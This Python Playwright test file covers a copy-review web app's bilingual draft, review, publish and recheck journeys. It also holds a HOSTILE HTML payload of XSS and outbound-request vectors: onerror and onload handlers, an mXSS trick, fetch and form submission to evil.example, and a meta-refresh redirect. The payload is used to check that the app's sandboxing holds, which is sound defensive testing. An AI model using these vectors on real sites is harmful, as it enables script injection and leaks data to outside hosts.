"""The journeys in a real browser, in English and in Arabic: typed and reworded, decided by two branches, watched."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from werkzeug.serving import make_server

from promisecheck.app.texts import text
from promisecheck.model import Language
from promisecheck.review import gate, people, pieces

Site = Any
PASSWORD = "correct horse battery"
CHROMIUM = "/usr/bin/chromium"
QUIET = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
    "--disable-quic",
]

pytestmark = pytest.mark.slow


@dataclass(frozen=True)
class Story:
    """What is written in one language. offered: a word of the first wording. revised: what Omar's branch can keep."""

    language: Language
    title: str
    first: str
    offered: str
    can: str
    revised: str
    file: str
    before: str
    after: str


STORIES = (
    Story(
        "en",
        "Winter nights",
        "Winter nights.\nTakeaway in Weibdeh is ready in 10 minutes.\nAqaba Old Town has outdoor seating.\n",
        "ready in 20 minutes",
        "25",
        "Winter nights.\nTakeaway in Weibdeh is ready in 25 minutes.\nAqaba Old Town has outdoor seating.\n",
        "restaurants.yaml",
        "within: 20 min",
        "within: 30 min",
    ),
    Story(
        "ar",
        "ليالي الشتاء",
        "ليالي الشتاء.\nالتوصيل في جبل اللويبدة خلال 30 دقيقة.\nفي العقبة القديمة جلسات خارجية.\n",
        "خلال 40 دقيقة للطلبات من 8 دنانير فأكثر",
        "٤٥",
        "ليالي الشتاء.\nالتوصيل في جبل اللويبدة خلال 45 دقيقة للطلبات من 8 دنانير.\nفي العقبة القديمة جلسات خارجية.\n",
        "delivery.yaml",
        "within: 40 min",
        "within: 60 min",
    ),
)


class Walk:
    """One story told on one site: everybody in a browser of their own."""

    def __init__(self, site: Site, story: Story, browser: Any, address: str) -> None:
        self.site, self.story, self.browser, self.address = site, story, browser, address
        self.faults: list[str] = []
        self.requests: list[str] = []

    def say(self, key: str, **facts: object) -> str:
        return text(key, self.story.language, **facts)

    def page(self, who: str, path: str = "/") -> Any:
        context = self.browser.new_context(viewport={"width": 1366, "height": 768})
        context.add_cookies([{"name": "lang", "value": self.story.language, "url": self.address}])
        page = context.new_page()
        page.on("console", lambda said: self.faults.append(said.text) if said.type == "error" else None)
        page.on("pageerror", lambda error: self.faults.append(str(error)))
        page.on("request", lambda request: self.requests.append(request.url))
        page.goto(f"{self.address}/login")
        page.fill('[name="login"]', f"{who}@toy.example")
        page.fill('[name="password"]', PASSWORD)
        page.keyboard.press("Enter")
        page.wait_for_url(lambda url: "/login" not in url)
        page.goto(self.address + path)
        return page

    def close(self, page: Any) -> None:
        page.context.close()


@pytest.fixture
def address(site: Site) -> Iterator[str]:
    server = make_server("127.0.0.1", 0, site.app, threaded=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        opened = playwright.chromium.launch(executable_path=CHROMIUM, args=QUIET)
        yield opened
        opened.close()


def _clean(page: Any) -> list[str]:
    from axe_playwright_python.sync_playwright import Axe

    found = Axe().run(page).response["violations"]
    return [f"{one['id']}: {one['nodes'][0]['html'][:120]}" for one in found]


@pytest.mark.parametrize("story", STORIES, ids=lambda story: story.language)
def test_from_the_first_word_to_the_register(site: Site, browser: Any, address: str, story: Story) -> None:
    walk = Walk(site, story, browser, address)
    draft_id = _write(walk)
    _two_branches_decide(walk, draft_id)
    _revise(walk, draft_id)
    _decide_again_where_needed(walk, draft_id)
    _passes_the_gate(walk, draft_id)
    _a_standard_changes(walk, draft_id)
    assert walk.faults == []
    assert {one.split("/")[2] for one in walk.requests if not one.startswith("data:")} == {address.split("/")[2]}


def _write(walk: Walk) -> int:
    """An over-promise is typed, flagged and reworded; then the branches are asked."""
    story = walk.story
    page = walk.page("lina", "/pieces/write")
    page.fill('[name="title"]', story.title)
    page.fill('[name="runs_until"]', "2027-01-31")
    page.click("#copy")
    page.keyboard.insert_text(story.first)
    page.wait_for_selector(".promise.v-over [data-use]")
    marked = page.evaluate("[...CSS.highlights.get('promise-over')].map(one => one.toString())")
    assert len(marked) == 1
    assert marked[0] in story.first
    assert page.locator(".behind .at.v-over").inner_text() == "1"
    page.locator("#announce:not(:empty)").wait_for(state="attached")
    promises = walk.say("app.promises", n=2)
    said = walk.say("write.announce", promises=promises, over=walk.say("app.n_over", n=1))
    assert page.text_content("#announce") == said
    assert _clean(page) == []
    page.keyboard.press("Alt+Enter")
    page.wait_for_selector(".promise.v-over", state="detached")
    assert story.offered in page.input_value("#copy")
    page.keyboard.press("Control+z")
    page.wait_for_selector(".promise.v-over")
    assert page.input_value("#copy") == story.first
    page.keyboard.press("Alt+Enter")
    page.wait_for_selector(".promise.v-over", state="detached")
    page.click('[name="then"][value="ask"]')
    page.wait_for_url(lambda url: "/write" not in url)
    draft_id = int(page.url.split("/pieces/")[1].split("?")[0])
    assert walk.site.state(draft_id) == "in_review"
    walk.close(page)
    return draft_id


def _two_branches_decide(walk: Walk, draft_id: int) -> None:
    """Aya keeps what is kept with two keys; Omar says what his branch can do, with the keyboard alone."""
    aya = walk.page("aya", f"/pieces/{draft_id}")
    assert aya.locator("details.promise").count() == 1
    aya.keyboard.press("Shift+A")
    aya.wait_for_selector(f"text={walk.say('review.progress', done=1, all=1)}")
    aya.keyboard.press("Escape")
    aya.evaluate("document.activeElement.blur()")
    aya.keyboard.press("Enter")
    aya.wait_for_url("**/")
    walk.close(aya)
    omar = walk.page("omar", f"/pieces/{draft_id}")
    assert _clean(omar) == []
    frame = next(one for one in omar.frames if "/piece?" in one.url)
    assert frame.locator(".pc-mark").count() >= 2
    omar.keyboard.press("i")
    field = omar.locator('[data-form="can_if"]:not([hidden])')
    level = field.locator('[name="level"]')
    if level.count():
        level.fill(walk.story.can)
    else:
        field.locator('[name="condition"]').fill(walk.story.can)
    field.locator('[name="reason"]').fill("x")
    omar.keyboard.press("Enter")
    omar.wait_for_selector(f"#decide >> text={walk.say('review.progress', done=1, all=1)}")
    omar.locator("#announce:not(:empty)").wait_for(state="attached")
    assert omar.text_content("#announce") == walk.say("review.progress", done=1, all=1)
    omar.evaluate("document.activeElement.blur()")
    omar.keyboard.press("u")
    omar.wait_for_selector(f"#decide >> text={walk.say('review.progress', done=0, all=1)}")
    omar.keyboard.press("x")
    reasons = omar.locator('[data-form="cannot"]:not([hidden]) [name="reason"]')
    reasons.fill("No")
    omar.keyboard.press("i")
    assert reasons.input_value() == "Noi", "letters rest while somebody types"
    omar.evaluate("document.activeElement.blur()")
    omar.keyboard.press("i")
    field.locator('[name="reason"]').fill("One oven")
    omar.keyboard.press("Enter")
    omar.wait_for_selector(f"#decide >> text={walk.say('review.progress', done=1, all=1)}")
    omar.click('[data-key="Enter"]')
    omar.wait_for_url("**/")
    assert walk.site.state(draft_id) == "changes_requested"
    walk.close(omar)


def _revise(walk: Walk, draft_id: int) -> None:
    page = walk.page("lina", f"/pieces/{draft_id}")
    assert page.locator("text=One oven").count() == 1
    page.click(f"text={walk.say('review.revise')}")
    page.fill("#copy", walk.story.revised)
    page.wait_for_selector(".promise.v-over", state="detached")
    page.click('[name="then"][value="ask"]')
    page.wait_for_url(f"**/pieces/{draft_id}")
    walk.close(page)


def _decide_again_where_needed(walk: Walk, draft_id: int) -> None:
    asks = walk.site.asks(draft_id)
    assert {place: one.state for place, one in asks.items()} == {"weibdeh": "open", "old-town": "done"}
    assert asks["old-town"].carried
    omar = walk.page("omar", f"/pieces/{draft_id}?view=changes")
    assert omar.locator(".copy-diff ins").count() >= 1
    omar.goto(f"{walk.address}/pieces/{draft_id}")
    omar.keyboard.press("a")
    omar.wait_for_selector(f"#decide >> text={walk.say('review.progress', done=1, all=1)}")
    omar.click('[data-key="Enter"]')
    omar.wait_for_url("**/")
    assert walk.site.state(draft_id) == "approved"
    walk.close(omar)


def _passes_the_gate(walk: Walk, draft_id: int) -> None:
    site = walk.site
    page = walk.page("lina", f"/pieces/{draft_id}")
    assert page.locator(f"text={walk.say('review.gate_open')}").count() == 1
    with site.here.db.read() as con:
        content = pieces.latest(con, pieces.draft(con, draft_id)).content_hash
    digest = site.here.judge.digest()
    assert gate.gate(site.here.db, site.actor("lina"), content, specs_hash=digest, now=site.clock.now).open
    page.fill('[name="place"]', "https://darnaranj.example/winter")
    page.click(f"text={walk.say('doing.publish')}")
    page.wait_for_selector(".told.done")
    assert site.state(draft_id) == "published"
    walk.close(page)


def _a_standard_changes(walk: Walk, draft_id: int) -> None:
    """What was promised does not hold any more: the register shows it, and the branch is asked again."""
    site, story = walk.site, walk.story
    file = site.here.settings.specs / story.file
    written = file.read_text(encoding="utf-8")
    assert story.before in written
    file.write_text(written.replace(story.before, story.after, 1), encoding="utf-8")
    owner = walk.page("dana", "/register/?verdict=over")
    assert owner.locator("table.tl tbody tr").count() == 0
    site.here.recheck()
    owner.reload()
    assert owner.locator("table.tl tbody tr").count() == 1
    walk.close(owner)
    assert site.state(draft_id) == "in_review"
    omar = walk.page("omar", "/")
    omar.click(f'a[href="/pieces/{draft_id}"] >> nth=0')
    omar.wait_for_selector("details.promise.v-over[open]")
    assert _clean(omar) == []
    walk.close(omar)


HOSTILE = """<!doctype html><meta http-equiv=refresh content="0;url=https://evil.example/r"><base href=https://evil.example/>
<link rel=stylesheet href=https://evil.example/a.css><link rel=preload as=image href=https://evil.example/l>
<link rel=icon href=https://evil.example/m><style>@import url(https://evil.example/b.css);
body{background:url(https://evil.example/c.png)} @font-face{font-family:e;src:url(https://evil.example/d)}
*{font-family:e} p{list-style:image-set("https://evil.example/n.png" 1x)}
p::after{content:url(//evil.example/o)}</style>
<body onload="parent.postMessage('ran','*');top.location='https://evil.example/t'" background="https://evil.example/p">
<script>top.ran = 1; fetch('https://evil.example/q')</script>
<p style="background-image:url(https://evil.example/s)">Takeaway in Weibdeh is ready in 20 minutes.</p>
<img src=x onerror="top.ran=1"><img src="https://evil.example/e.png"><img srcset="https://evil.example/u 2x">
<picture><source srcset="https://evil.example/v"><img></picture><input type=image src="https://evil.example/w">
<iframe src="https://evil.example/f"></iframe><iframe srcdoc="<script>top.ran=1</script>"></iframe>
<svg onload="top.ran=1"><image href="https://evil.example/g.png"/><use href="https://evil.example/x#y"/>
<style>*{background:url(https://evil.example/y)}</style></svg>
<object data="https://evil.example/h"></object><embed src="https://evil.example/z">
<form action="https://evil.example/i" id=f><button>x</button></form>
<script>document.getElementById('f').submit()</script>
<a href="https://evil.example/j" ping="https://evil.example/1" target=_top>away</a>
<video src="https://evil.example/k" poster="https://evil.example/2" autoplay></video>
<audio src="https://evil.example/3" autoplay></audio><details open ontoggle="top.ran=1"><summary>x</summary></details>
<math><mtext><style><img src=x onerror=top.ran=1></style></mtext></math>"""


def _theirs(walk: Walk) -> list[str]:
    return [one for one in walk.requests if "evil.example" in one]


def test_the_hostile_page_is_hostile_where_nothing_holds_it(site: Site, browser: Any, address: str) -> None:
    """Without this the next test would prove little: a browser that is shown the page itself does ask and run."""
    walk = Walk(site, STORIES[0], browser, address)
    page = browser.new_context().new_page()
    page.on("request", lambda request: walk.requests.append(request.url))
    page.route("**/*", lambda route: route.abort())
    page.set_content(HOSTILE.replace('content="0;url=', 'content="99;url='), wait_until="commit")
    page.wait_for_timeout(500)
    assert len({one.rsplit("/", 1)[-1] for one in _theirs(walk)}) > 8
    walk.close(page)


@pytest.mark.parametrize("view", ["", "?view=text"])
def test_a_hostile_page_asks_for_nothing_and_runs_nothing(site: Site, browser: Any, address: str, view: str) -> None:
    """Scripts, handlers, frames, refreshes, styles and pictures of a page that means harm."""
    piece = site.in_review(HOSTILE, kind="html")
    walk = Walk(site, STORIES[0], browser, address)
    page = walk.page("omar", f"/pieces/{piece.id}{view}")
    page.wait_for_load_state("networkidle")
    frame = next(one for one in page.frames if "/piece?" in one.url)
    assert frame.locator(".pc-mark").count() == 1
    if not view:
        frame.locator("a.pc-link").click()
    page.wait_for_timeout(500)
    assert page.url == f"{address}/pieces/{piece.id}{view}"
    assert page.evaluate("typeof window.ran") == "undefined"
    assert _theirs(walk) == []
    assert walk.faults == []
    page.goto(f"{address}/pieces/{piece.id}/piece{view}")
    page.wait_for_timeout(500)
    assert "/piece" in page.url
    assert page.evaluate("typeof window.ran") == "undefined"
    assert _theirs(walk) == []
    walk.close(page)


def test_a_piece_is_written_checked_and_decided_without_script(site: Site, browser: Any, address: str) -> None:
    people.set_preferences(site.here.db, site.actor("omar"), language="en", digest="daily", now=site.clock.now)

    def come(who: str, path: str) -> Any:
        page = browser.new_context(java_script_enabled=False).new_page()
        page.goto(f"{address}/login")
        page.fill('[name="login"]', f"{who}@toy.example")
        page.fill('[name="password"]', PASSWORD)
        page.click('main button[type="submit"]')
        page.goto(address + path)
        return page

    lina = come("lina", "/pieces/write")
    lina.fill('[name="title"]', "Plain")
    lina.fill("#copy", "Takeaway in Weibdeh is ready in 10 minutes.")
    lina.click('[name="then"][value="check"]')
    lina.click('[name="use"] >> nth=0')
    assert "20 minutes" in lina.input_value("#copy")
    lina.click('[name="then"][value="ask"]')
    draft_id = int(lina.url.rsplit("/", 1)[1])
    omar = come("omar", f"/pieces/{draft_id}")
    omar.click('[data-answer="x"]')
    omar.fill('[data-form="cannot"] [name="reason"]', "One oven")
    omar.click('[data-form="cannot"] button.main')
    omar.click('[data-key="Enter"]')
    assert site.state(draft_id) == "changes_requested"
    lina.context.close()
    omar.context.close()


def test_a_session_that_ends_loses_no_text_and_no_pane(site: Site, browser: Any, address: str) -> None:
    piece = site.in_review("Takeaway in Weibdeh is ready in 20 minutes.\n")
    walk = Walk(site, STORIES[0], browser, address)
    omar, lina = walk.page("omar", f"/pieces/{piece.id}"), walk.page("lina", "/pieces/write")
    for page in (omar, lina):
        page.context.clear_cookies(name="promisecheck")
    lina.fill("#copy", "Takeaway in 10 minutes, guaranteed.")
    lina.wait_for_selector("[data-lost]")
    assert lina.input_value("#copy") == "Takeaway in 10 minutes, guaranteed."
    omar.keyboard.press("a")
    omar.wait_for_selector(".told.refused, [name=password]")
    walk.close(omar)
    walk.close(lina)
